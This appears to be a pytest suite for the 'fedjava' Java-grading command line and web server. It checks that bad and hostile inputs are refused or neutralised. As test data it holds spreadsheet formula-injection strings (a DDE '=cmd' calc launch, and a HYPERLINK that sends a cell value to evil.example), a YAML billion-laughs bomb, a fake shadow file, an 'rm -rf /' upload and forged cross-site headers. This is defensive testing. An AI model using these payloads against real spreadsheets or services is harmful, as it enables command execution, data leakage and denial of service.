"""The probe's bad and hostile inputs (issue 22), as far as they can be automated, through the real command line
(``fedjava.cli.main``): bad config values and preset files, bad task files, bad data files, bad submissions, and
bad requests to ``fedjava serve``. Each must end with exit code 2 and exactly one ``error:`` line, no traceback,
no hang, and nothing lost: what was on disk stays as it was, and nothing half-made is left behind.

Then the hostile inputs that are no error: a class whose file names are spreadsheet formulas or too long for the
disk, and a class graded into an output folder inside itself, twice. The class is all ungradable files (empty,
binary), so no model loads and the whole command still runs.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import typing
import zipfile
from dataclasses import fields
from pathlib import Path

import pytest
from tests.conftest import GOOD, REQUIREMENT, CountingReviewer, form_token

from fedjava.cli import main
from fedjava.config import Config

SECRET = "s3cr3t-must-not-leak"
SHADOW = f"root:$6$salt${SECRET}:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"


def refused(capsys, argv: list[str], *expected: str) -> str:
    """Run ``fedjava argv``: exit code 2, one ``error:`` line holding every ``expected`` text, no traceback."""
    code = main(argv)
    out, err = capsys.readouterr()
    assert code == 2, (argv, out[-800:], err[-800:])
    assert "Traceback" not in out + err, err
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, err
    for text in expected:
        assert text in err, (text, err)
    return err


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below ``folder`` and its bytes: 'nothing lost' is an equal snapshot after the command."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# ---------------------------------------------------------------- config values and preset files

BAD_CONFIG = [
    ("max_seq_length=99999999999999999999", "max_seq_length=99999999999999999999: must be at most 1048576"),
    ("lora_r=1e9", "lora_r=1000000000: must be at most 4096"),
    ("batch_size=1e400", "batch_size=1e400: expected an integer"),
    ("num_rounds=nan", "num_rounds=nan: expected an integer"),
    ("max_steps=1.5", "max_steps=1.5: expected an integer"),
    ("gradient_accumulation_steps=ten", "expected an integer"),
    ("seed=-1", "seed=-1: must be in 0..4294967295"),
    ("seed=4294967296", "seed=4294967296: must be at most 4294967295"),
    ("save_total_limit=1e30", "must be at most 10000"),
    ("learning_rate=inf", "learning_rate=inf: must be a finite number"),
    ("learning_rate=-1e-4", "must be > 0"),
    ("lora_dropout=1", "lora_dropout=1.0: must be in [0, 1)"),
    ("precision=fp64", "precision=fp64: must be one of auto, fp32, bf16, fp16"),
    ("use_4bit=maybe", "expected true or false"),
    ("num_clients=65", "num_clients=65: must be at most 64"),
    ("num_gpus=-2", "must be >= 0, or -1 for every visible GPU"),
    ("report_to=slack", "unknown target(s) slack"),
    ("model_name=builtin:nope", "unknown built-in model"),
    ("model_name=", "model_name=: must not be empty"),
    ("max_seq_lenght=512", "did you mean 'max_seq_length'"),
    ("max_seq_length", "'max_seq_length': expected key=value"),
    ("train_file=/", "is a folder, not a file of training samples"),
]


@pytest.mark.parametrize("setting, message", BAD_CONFIG)
def test_bad_config_values(setting, message, data_dir, capsys):
    refused(capsys, ["config", "check", f"data_dir={data_dir}", setting], message)


INT_KEYS = [f.name for f in fields(Config) if typing.get_type_hints(Config)[f.name] is int]


@pytest.mark.parametrize("key", INT_KEYS)
def test_every_integer_key_is_bounded(key, data_dir, capsys):
    """A new integer key without an upper bound fails here: 10^20 passed every '>= 1' check before."""
    refused(
        capsys,
        ["config", "check", f"data_dir={data_dir}", f"{key}=99999999999999999999"],
        f"{key}=99999999999999999999: must be at most ",
    )


BAD_PRESETS = [
    (b"\x00\x01\x02binary", "not a text file"),
    (b"", "the file is empty"),
    (b"- lora_r\n- 8\n", "expected key: value pairs"),
    (b"lora_r: 8\nlora_r: 16\n", "'lora_r' is set twice"),
    (b"max_seq_length: 99999999999999999999\n", "must be at most 1048576"),
    (b"lora_r: " + b"[" * 5000 + b"]" * 5000 + b"\n", "nested too deeply"),
    (b"lora_r: [unclosed\n", "not valid YAML"),
    (b"hidden_size: 64\n", "unknown key 'hidden_size'"),
]


@pytest.mark.parametrize("content, message", BAD_PRESETS)
def test_bad_preset_files(content, message, data_dir, tmp_path, capsys):
    preset = tmp_path / "preset.yaml"
    preset.write_bytes(content)
    refused(capsys, ["config", "check", str(preset), f"data_dir={data_dir}"], message)


# ---------------------------------------------------------------- task files (review --task-file, grade --task)

BILLION_LAUGHS = (
    "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(8)
    )
    + "requirement: boom\ntests:\n  - call: *i\n    expect: '1'\n"
)

BAD_TASKS = [  # (file name, content, what the error says); every secret must stay out of the message
    ("shadow", SHADOW, "shadow: not a task file: a task file is a YAML mapping with 'requirement:'"),
    ("credentials", f"API_KEY: {SECRET}\nREGION: eu\n", "this one is a mapping without 'requirement'"),
    ("secret.yaml", f"requirement: x\npassword: {SECRET}: oops\n", "secret.yaml: not a YAML task file (line 2"),
    ("tabs.yaml", f"requirement: x\n\t{SECRET}: 1\n", "not a YAML task file (line 2, column 1)"),
    ("words", "Return twice x, please.\n", "this one is plain text (a task written as text goes in a .txt file)"),
    ("list.yaml", "- requirement: x\n", "this one is a list"),
    ("empty.yaml", "", "the task file is empty"),
    ("blank.yaml", "  \n\t\n", "the task file is empty (only whitespace)"),
    ("binary.yaml", b"\x00\x01requirement: x", "not a text file (it has binary content)"),
    ("latin.yaml", "requirement: café\n".encode("latin-1"), "not UTF-8 text (byte 16 cannot be read)"),
    ("huge.yaml", "requirement: " + "x" * 30_000 + "\n", "is too large for a task file (the limit is 20 KB)"),
    ("title.yaml", "title: Twice\n", "this one is a mapping without 'requirement'"),
    ("listreq.yaml", "requirement: [1, 2]\n", "'requirement' must be a non-empty string"),
    ("emptyreq.yaml", "requirement: ''\n", "'requirement' must be a non-empty string"),
    ("unknown.yaml", "requirement: x\nhints: y\n", "unknown key 'hints'"),
    ("tests.yaml", "requirement: x\ntests: 5\n", "'tests' must be a list"),
    ("test0.yaml", "requirement: x\ntests:\n  - call: f()\n", "tests[0] needs 'call' and 'expect'"),
    ("bomb.yaml", BILLION_LAUGHS, "YAML aliases (*name) are not allowed in a task file"),
    ("deep.yaml", "requirement: x\ntests: " + "[" * 5000 + "]" * 5000 + "\n", "its YAML is nested too deeply"),
]


def _task(tmp_path: Path, name: str, content: str | bytes | None) -> Path:
    path = tmp_path / "tasks" / name
    path.parent.mkdir(exist_ok=True)
    if content is not None:
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return path


@pytest.fixture
def java(tmp_path) -> Path:
    path = tmp_path / "Solution.java"
    path.write_text(GOOD)
    return path


@pytest.mark.parametrize("name, content, message", BAD_TASKS)
def test_bad_task_files_for_review(name, content, message, java, tmp_path, capsys):
    task = _task(tmp_path, name, content)
    err = refused(capsys, ["review", str(java), "--task-file", str(task)], message)
    assert SECRET not in err and "$6$" not in err


def test_task_files_that_are_no_files(java, tmp_path, capsys):
    fifo = tmp_path / "task.yaml"
    os.mkfifo(fifo)  # reading it would wait for a writer for ever
    refused(capsys, ["review", str(java), "--task-file", str(fifo)], "not a regular file (a device, pipe or socket)")
    (tmp_path / "link.yaml").symlink_to(fifo)
    refused(capsys, ["review", str(java), "--task-file", str(tmp_path / "link.yaml")], "not a regular file")
    refused(capsys, ["review", str(java), "--task-file", str(tmp_path)], "is a folder, not a task file")
    refused(capsys, ["review", str(java), "--task-file", str(tmp_path / "none.yaml")], "none.yaml: no such task file")


@pytest.mark.parametrize("name, content, message", [BAD_TASKS[0], BAD_TASKS[2], BAD_TASKS[17], BAD_TASKS[18]])
def test_bad_task_files_for_grade_write_nothing(name, content, message, tmp_path, capsys):
    task = _task(tmp_path, name, content)
    (tmp_path / "cls").mkdir()
    (tmp_path / "cls" / "alice.java").write_text(GOOD)
    before = snapshot(tmp_path)
    err = refused(
        capsys, ["grade", str(tmp_path / "cls"), "--task", str(task), "--out", str(tmp_path / "out")], message
    )
    assert SECRET not in err and snapshot(tmp_path) == before and not (tmp_path / "out").exists()


# ---------------------------------------------------------------- data files (data import, data split)

LEGACY = {
    "system_prompt": "You are a Java teacher.",
    "feedback": "No errors found. Code is correct.",
    "user_prompt": f"Java code requirement: {REQUIREMENT} student code: {GOOD}",
}

BAD_IMPORTS = [  # (input content or None for missing, extra options, message)
    (None, [], "in.jsonl: file not found"),
    (b"\x00\x01\x02", [], "not a text file"),
    ("caf\xe9".encode("latin-1"), [], "not UTF-8 text"),
    (b"", [], "no rows to import"),
    (b"{not json\n", [], "no row is a JSON object, cannot tell the format"),
    (b"[1, 2, 3]", [], "no row is a JSON object"),
    (b'{"text": "hello"}\n', [], "cannot tell"),
    (
        json.dumps({**LEGACY, "user_prompt": "Java code requirement: x student code: "}).encode() + b"\n",
        [],
        "nothing written",
    ),
    (json.dumps(LEGACY).encode() + b"\n", ["--format", "alpaca"], "nothing written"),
    (json.dumps(LEGACY).encode() + b"\nnope\n", ["--on-error", "stop"], "stopped at the first bad row"),
]


@pytest.mark.parametrize("content, options, message", BAD_IMPORTS)
def test_bad_import_files_write_nothing(content, options, message, tmp_path, capsys):
    source = tmp_path / "in.jsonl"
    if content is not None:
        source.write_bytes(content)
    out = tmp_path / "data" / "imported.jsonl"
    refused(capsys, ["data", "import", str(source), "--out", str(out), *options], message)
    assert not out.exists()


def test_import_never_replaces_a_file_unasked(tmp_path, capsys):
    """The probe replaced the shipped 3,936 training samples with 3 imported ones through --out."""
    source = tmp_path / "legacy.jsonl"
    source.write_text(json.dumps(LEGACY) + "\n")
    train = tmp_path / "data" / "train.jsonl"
    train.parent.mkdir()
    train.write_text('{"shipped": 1}\n' * 5)
    before = snapshot(tmp_path)
    refused(
        capsys,
        ["data", "import", str(source), "--out", str(train)],
        f"error: {train} exists already: pass --force to replace it",
    )
    assert snapshot(tmp_path) == before
    refused(capsys, ["data", "import", str(source), "--out", str(tmp_path / "data")], "is a folder; give a file name")
    fifo = tmp_path / "pipe.jsonl"
    os.mkfifo(fifo)
    refused(capsys, ["data", "import", str(fifo), "--out", str(tmp_path / "new.jsonl")], "not a regular file")
    assert main(["data", "import", str(source), "--out", str(train), "--force"]) == 0
    assert "wrote 1 sample(s)" in capsys.readouterr().out and "shipped" not in train.read_text()


BAD_SPLITS = [  # (what to do to the data folder, options, message)
    (None, ["--clients", "0"], "num_clients must be an integer from 1 to 64, got 0"),
    (None, ["--clients", "1000"], "from 1 to 64, got 1000"),
    (None, ["--clients", "9"], "cannot split 8 sample(s) into 9 clients"),
    (None, ["--partition", "dirichlet", "--alpha", "nan"], "alpha must be a finite number > 0"),
    (None, ["--partition", "quantity", "--alpha", "inf"], "alpha must be a finite number > 0"),  # was a hang
    (None, ["--partition", "dirichlet", "--alpha", "-1"], "alpha must be a finite number > 0"),
    (None, ["--train-file", "nope.jsonl"], "nope.jsonl"),
    (lambda d: (d / "train.jsonl").write_bytes(b"\x00\x01"), [], "not a text file"),
    (lambda d: (d / "train.jsonl").write_text("[]"), [], "train.jsonl"),
    (lambda d: (d / "train.jsonl").write_text('{"messages": 5}\n'), [], "train.jsonl"),
    (lambda d: (d / "valid.jsonl").write_text("{broken\n"), [], "valid.jsonl"),
    (lambda d: os.mkfifo(d / "fifo.jsonl"), ["--train-file", "fifo.jsonl"], "not a regular file"),
]


SPLIT_IDS = [
    "no-clients",
    "1000-clients",
    "more-clients-than-samples",
    "alpha-nan",
    "alpha-inf",
    "alpha-negative",
    "missing-train",
    "binary-train",
    "empty-array",
    "bad-sample",
    "broken-valid",
    "fifo-train",
]


@pytest.mark.parametrize("change, options, message", BAD_SPLITS, ids=SPLIT_IDS)
def test_bad_splits_write_nothing(change, options, message, data_dir, capsys):
    if change is not None:
        change(data_dir)
    before = snapshot(data_dir)
    refused(capsys, ["data", "split", "--data-dir", str(data_dir), *options], message)
    assert snapshot(data_dir) == before


def test_split_never_replaces_an_earlier_split_unasked(data_dir, capsys):
    assert main(["data", "split", "--data-dir", str(data_dir), "--clients", "2"]) == 0
    capsys.readouterr()
    before = snapshot(data_dir)
    refused(
        capsys,
        ["data", "split", "--data-dir", str(data_dir), "--clients", "4"],
        f"error: {data_dir} holds an earlier split (client_0.json, client_1.json, clients.json ...): pass "
        "--force to replace it",
    )
    assert snapshot(data_dir) == before
    assert main(["data", "split", "--data-dir", str(data_dir), "--clients", "4", "--force"]) == 0
    assert json.loads((data_dir / "clients.json").read_text())["num_clients"] == 4


# ---------------------------------------------------------------- submissions that stop grade

TASK_YAML = f"title: Twice\nrequirement: {REQUIREMENT}\n"


def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


BAD_CLASSES = [  # (how to make SUBMISSIONS at path p, message)
    (lambda p: None, "no such folder or zip file"),
    (lambda p: p.write_text("alice,bob\n"), "not a folder or a zip file"),
    (lambda p: p.write_bytes(b"PK\x03\x04" + os.urandom(64)), "not a folder or a zip file"),
    (lambda p: os.mkfifo(p), "not a folder or a zip file"),  # opening a pipe would wait for ever
    (lambda p: p.mkdir(), "no submissions found"),
    (lambda p: (p.mkdir(), (p / ".DS_Store").write_text("x")), "no submissions found"),
    (lambda p: _zip(p, {}), "no submissions found"),
    (lambda p: _zip(p, {"__MACOSX/._alice.java": b"x", ".hidden.java": b"x"}), "no submissions found"),
]


@pytest.mark.parametrize(
    "make, message",
    BAD_CLASSES,
    ids=["missing", "csv", "corrupt-zip", "fifo", "empty-folder", "hidden-only", "empty-zip", "macosx-only"],
)
def test_bad_submissions_write_nothing(make, message, tmp_path, capsys):
    task = tmp_path / "task.yaml"
    task.write_text(TASK_YAML)
    make(tmp_path / "class.zip")
    refused(
        capsys, ["grade", str(tmp_path / "class.zip"), "--task", str(task), "--out", str(tmp_path / "out")], message
    )
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- hostile classes that grade (no model needed)

PROBE_IDS = [
    "=1+2",
    "+SUM(1,1)",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB",
    "\rCR",
]
FORMULA_IDS = [s.replace("/", "-") for s in PROBE_IDS]  # as file names in a zip (a / would make folders)
LONG_IDS = ["x" * 300, "x" * 299 + "y", "é" * 200]  # longer than the 255 bytes a file name may have


def _grade(tmp_path: Path, submissions: Path, capsys, *options: str) -> str:
    task = tmp_path / "task.yaml"
    task.write_text(TASK_YAML)
    code = main(["grade", str(submissions), "--task", str(task), *options])
    out, err = capsys.readouterr()
    assert code == 0 and "Traceback" not in out + err, err
    return out


def test_a_class_with_formula_and_over_long_names_is_graded_with_every_output(tmp_path, capsys):
    from fedjava.grading.gradebook import FORMULA_START, check_gradebook, read_detail

    entries = {f"{s}.java": b"" for s in FORMULA_IDS}  # empty files: ungradable, but students with a row
    entries.update({f"{s}.java": b"\x00binary" for s in LONG_IDS[:2]})
    entries[f"{LONG_IDS[2]}/src/Solution.java"] = b""  # a folder name too long
    entries["alice.java"] = b""
    assignment = '=HYPERLINK("http://evil.example","Homework")'
    out = tmp_path / "graded"
    _grade(tmp_path, _zip(tmp_path / "class.zip", entries), capsys, "--out", str(out), "--assignment", assignment)
    for name in ("grades.csv", "grades_detail.csv", "summary.html", "results.jsonl", "state.json"):
        assert (out / name).is_file(), name
    assert check_gradebook(out / "grades.csv", assignment) == []
    for name in ("grades.csv", "grades_detail.csv"):
        cells = [
            cell
            for row in csv.reader(io.StringIO((out / name).read_bytes().decode("utf-8"), newline=""))
            for cell in row
        ]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name  # nothing a spreadsheet would run
        for student in FORMULA_IDS:
            assert "'" + student in cells, (name, student)
    gradebook = (out / "grades.csv").read_bytes().decode("utf-8")
    assert "\"'=cmd|' -C calc'!A0\",,,\"'=cmd|' -C calc'!A0\",," in gradebook  # quoted, with the quote in front
    detail = read_detail(out / "grades_detail.csv")
    students = sorted(row["student"] for row in detail)
    assert students == sorted([*FORMULA_IDS, *LONG_IDS, "alice"])  # read back as the ids they are
    pages = sorted(p.name for p in (out / "feedback").iterdir())
    assert len(pages) == len(students) and max(len(p.encode()) for p in pages) <= 90
    long_pages = [row["page"] for row in detail if row["student"] in LONG_IDS]
    assert len(set(long_pages)) == 3 and all(p.startswith(("x" * 60, "_" * 60)) for p in long_pages)
    summary = (out / "summary.html").read_text(encoding="utf-8")
    assert "=cmd|" in summary and "evil.example" in summary and "<script" not in summary


def test_the_probes_ids_are_neutralised_and_scores_stay_numbers(tmp_path):
    from fedjava.grading.gradebook import GradeRow, cell_value, check_gradebook, detail_text, gradebook_text

    rows = [
        GradeRow(s, score, 10, "teacher", "NO_ERROR", "", "graded", s, "released", True, "p.html", s)
        for s, score in zip([*PROBE_IDS, "alice", "bob"], [*[7.5] * len(PROBE_IDS), -1, 0], strict=True)
    ]
    path = tmp_path / "grades.csv"
    path.write_text(gradebook_text("HW", rows), encoding="utf-8", newline="")
    assert check_gradebook(path) == ["row 10: score '-1' is not a plain number with at most two decimals"]
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    link = '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
    assert f"{link},,,{link},,7.5" in lines  # quoted, the quote in front, its own quotes doubled
    assert lines[-3:] == ["alice,,,alice,,-1", "bob,,,bob,,0", ""]  # numbers stay numbers, a negative one too
    for text in (gradebook_text("HW", rows), detail_text(rows)):
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))] == []
        assert [c for c in cells if c.startswith("-") and c != "-1"] == []
        assert sorted({cell_value(c) for c in cells} & set(PROBE_IDS)) == sorted(PROBE_IDS)


def test_the_output_folder_is_never_graded_as_a_student(tmp_path, capsys):
    """grade cls --out cls/graded, twice: the second run graded its own output folder as a student 'graded'."""
    from fedjava.grading.gradebook import check_gradebook, read_detail

    cls = tmp_path / "cls"
    cls.mkdir()
    (cls / "alice.java").write_text("")
    (cls / "bob").mkdir()
    (cls / "bob" / "notes.txt").write_text("no Java here")
    for out in (cls / "graded", cls / "graded", cls, cls):  # inside the class folder, then the folder itself
        _grade(tmp_path, cls, capsys, "--out", str(out))
        assert sorted(row["student"] for row in read_detail(out / "grades_detail.csv")) == ["alice", "bob"], out
        assert check_gradebook(out / "grades.csv") == []
    elsewhere = tmp_path / "elsewhere"  # an earlier run's folder inside the class, --out now elsewhere
    _grade(tmp_path, cls, capsys, "--out", str(elsewhere))
    assert sorted(row["student"] for row in read_detail(elsewhere / "grades_detail.csv")) == ["alice", "bob"]
    zipped = _zip(
        tmp_path / "cls.zip", {f"cls/{p.relative_to(cls)}": p.read_bytes() for p in cls.rglob("*") if p.is_file()}
    )  # the class zipped with its graded folders in it
    _grade(tmp_path, zipped, capsys, "--out", str(tmp_path / "from_zip"))
    assert sorted(row["student"] for row in read_detail(tmp_path / "from_zip" / "grades_detail.csv")) == [
        "alice",
        "bob",
    ]


# ---------------------------------------------------------------- requests to fedjava serve


@pytest.fixture(scope="module")
def served(taught_adapter):
    """The app around the tiny taught adapter, with a reviewer that counts its reviews."""
    from starlette.testclient import TestClient

    from fedjava.grading.rubric import load_rubric
    from fedjava.reviewer import Reviewer, open_adapter
    from fedjava.serve import LOOPBACK_NAMES, create_app

    counting = CountingReviewer(Reviewer.load(*open_adapter(taught_adapter)))
    app = create_app(counting, load_rubric(), max_upload_bytes=20_000, allowed_hosts=LOOPBACK_NAMES)
    return TestClient(app, base_url="http://127.0.0.1:8765", headers={"origin": "http://127.0.0.1:8765"}), counting


BAD_REQUESTS = [  # (headers, form fields, files, status, what the page says); True: the page's token
    ({"origin": "http://evil.example"}, {"code": GOOD, "form_token": True}, None, 403, "not from this page"),
    ({"origin": "null"}, {"code": GOOD, "form_token": True}, None, 403, "the form came from null"),
    ({"origin": "http://localhost:8765"}, {"code": GOOD, "form_token": True}, None, 403, "not from this page"),
    ({"sec-fetch-site": "cross-site"}, {"code": GOOD, "form_token": True}, None, 403, "Sec-Fetch-Site"),
    ({"sec-fetch-site": "same-site"}, {"code": GOOD, "form_token": True}, None, 403, "Sec-Fetch-Site"),
    ({}, {"code": GOOD}, None, 403, "token is missing or out of date"),
    ({}, {"code": GOOD, "form_token": "a.b"}, None, 403, "token is missing or out of date"),
    ({"host": "attacker.example:8765"}, {"code": GOOD, "form_token": True}, None, 400, "only on this machine"),
    ({}, {"code": GOOD, "form_token": True, "task": "x" * 25_000}, None, 413, "the limit is 20 KB"),
    ({}, {"form_token": True, "code": "  "}, None, 400, "no code"),
    ({}, {"form_token": True}, {"code_file": ("evil.sh", b"rm -rf /")}, 400, "not a .java file"),
    ({}, {"form_token": True}, {"code_file": ("x" * 300 + ".java", b"\x00")}, 400, "not a text file"),
    ({}, {"form_token": True, "code": GOOD}, {"task_file": ("shadow", SHADOW.encode())}, 400, "not a task file"),
    (
        {},
        {"form_token": True, "code": GOOD},
        {"task_file": ("s.yaml", f"a: {SECRET}: b\n".encode())},
        400,
        "not a YAML task file",
    ),
    (
        {},
        {"form_token": True, "code": GOOD},
        {"task_file": ("bomb.yaml", BILLION_LAUGHS.encode())},
        400,
        "YAML aliases",
    ),
    (
        {},
        {"form_token": True, "code": GOOD},
        {"task_file": ("t" * 300 + ".yaml", b"requirement: [1]\n")},
        400,
        "'requirement' must be a non-empty string",
    ),
]


@pytest.mark.parametrize("headers, form, files, status, message", BAD_REQUESTS)
def test_bad_serve_requests(served, headers, form, files, status, message):
    client, counting = served
    form = {k: (form_token(client) if v is True else v) for k, v in form.items()}
    response = client.post("/review", data=form, files=files, headers=headers)
    text = html.unescape(response.text)
    assert response.status_code == status and message in text, text[-600:]
    assert SECRET not in text and counting.reviews == 0


def test_bad_serve_bodies(served):
    """Bodies no page would send: refused with a 4xx, never a 500 (the test client re-raises any server error)."""
    client, counting = served
    token = form_token(client)
    assert client.post("/review", content=b"{}", headers={"content-type": "application/json"}).status_code == 403
    bad_multipart = client.post(
        "/review", content=b"--x\r\nnonsense", headers={"content-type": "multipart/form-data"}
    )  # no boundary
    assert 400 <= bad_multipart.status_code < 500
    many = {f"f{i}": (f"{i}.java", GOOD) for i in range(3)}
    assert client.post("/review", data={"form_token": token}, files=many).status_code == 400  # at most 2 files
    no_length = client.build_request("POST", "/review", content=iter([b"code=x"]))
    assert client.send(no_length).status_code == 411
    assert counting.reviews == 0
